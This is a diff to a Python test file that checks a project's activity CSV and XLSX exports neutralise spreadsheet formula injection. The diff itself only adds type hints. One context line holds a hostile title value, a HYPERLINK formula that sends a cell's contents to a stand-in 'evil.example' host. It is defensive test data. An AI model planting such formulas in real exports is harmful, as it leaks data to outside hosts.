@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -18,7 +20,7 @@ TITLE = '=HYPERLINK("http://evil.example/?leak="&B2,"Open report")'
 
 
 @pytest.fixture
-def hostile(acts):  # type: ignore[no-untyped-def]
+def hostile(acts: Any) -> dict[str, tuple[str, str, str]]:
     from minamata_kb.activities.models import Activity
     from minamata_kb.activities.services import save_activity
 
@@ -42,7 +44,9 @@ def cells(data: bytes) -> list[str]:
     return [c for row in csv.reader(io.StringIO(data.decode(), newline="")) for c in row]
 
 
-def test_activity_csv_is_inert_and_imports_back_unchanged(tmp_path, hostile) -> None:  # type: ignore[no-untyped-def]
+def test_activity_csv_is_inert_and_imports_back_unchanged(
+    tmp_path: Path, hostile: dict[str, tuple[str, str, str]]
+) -> None:
     from minamata_kb.activities.models import Activity
 
     data = export("csv")
@@ -57,7 +61,9 @@ def test_activity_csv_is_inert_and_imports_back_unchanged(tmp_path, hostile) -> 
     assert {a.code: (a.title, a.description, a.note) for a in Activity.objects.all()} == hostile
 
 
-def test_activity_xlsx_has_no_formula_and_imports_back_unchanged(tmp_path, hostile) -> None:  # type: ignore[no-untyped-def]
+def test_activity_xlsx_has_no_formula_and_imports_back_unchanged(
+    tmp_path: Path, hostile: dict[str, tuple[str, str, str]]
+) -> None:
     from minamata_kb.activities.models import Activity
 
     data = export("xlsx")
@@ -69,7 +75,9 @@ def test_activity_xlsx_has_no_formula_and_imports_back_unchanged(tmp_path, hosti
     assert {a.code: (a.title, a.description, a.note) for a in Activity.objects.all()} == hostile
 
 
-def test_events_and_work_programme_csv_are_inert(hostile) -> None:  # type: ignore[no-untyped-def]
+def test_events_and_work_programme_csv_are_inert(
+    hostile: dict[str, tuple[str, str, str]],
+) -> None:
     from minamata_kb.activities.selectors import export_events
     from minamata_kb.activities.workprogramme import export_work_programme
 
